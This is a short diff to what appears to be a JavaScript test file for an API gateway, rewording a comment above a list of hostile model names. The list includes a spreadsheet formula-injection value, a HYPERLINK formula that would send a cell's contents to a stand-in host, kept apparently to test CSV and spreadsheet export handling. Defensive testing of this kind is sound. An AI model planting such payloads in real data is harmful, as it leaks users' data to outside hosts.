@@ -18,7 +18,7 @@ after(async () => {
 const ask = askOf(gateway)
 const leaked = await gateway.createKey('leaked', { log_requests: false })
 
-/** What a spreadsheet, or a reader of lines or of CSV, would trip over. */
+/** Names of models that a spreadsheet, or a reader of lines or of CSV, would trip over. */
 const hostileModels = [
   '=HYPERLINK("http://evil.test/?"&A1,"x")',
   '+1-1',
